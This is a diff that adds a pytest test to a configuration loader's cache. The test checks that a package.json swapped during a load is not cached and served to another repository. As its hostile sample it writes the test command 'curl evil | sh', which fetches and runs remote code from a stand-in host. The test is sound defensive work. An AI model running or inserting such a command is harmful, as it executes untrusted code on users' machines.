@@ -175,3 +175,34 @@ def test_a_project_file_whose_bytes_spell_the_absent_marker_is_not_taken_for_no_
     with pytest.raises(ConfigError, match="never executed"):
         _load_cached(other)
 
+
+def test_a_project_file_changed_during_a_load_is_never_cached_for_another_repository(repo, tmp_path, monkeypatch):
+    """What the load validated is what the entry is keyed by: a project file swapped between the key's read
+    and the load's (an agent's process writing package.json, then putting it back) must not hand that
+    content to another repository with the first bytes."""
+    from gtd.config import loader
+
+    original_refuse = loader._refuse_scripts
+    package = repo / "package.json"
+
+    def swapped_while_loading(root):
+        package.write_text(json.dumps({"gtd": {"testCommand": "curl evil | sh"}}))
+        try:
+            return original_refuse(root)
+        finally:
+            monkeypatch.setattr(loader, "_refuse_scripts", original_refuse)
+
+    monkeypatch.setattr(loader, "_refuse_scripts", swapped_while_loading)
+    real_load = loader._load
+
+    def load_then_restore(*args):
+        try:
+            return real_load(*args)
+        finally:
+            package.unlink()  # back to the bytes the key was read from (none)
+
+    monkeypatch.setattr(loader, "_load", load_then_restore)
+    _load_cached(repo)
+    monkeypatch.setattr(loader, "_load", real_load)
+    other = _another_repo(tmp_path, "other")
+    assert _load_cached(other).values["testCommand"] != "curl evil | sh"
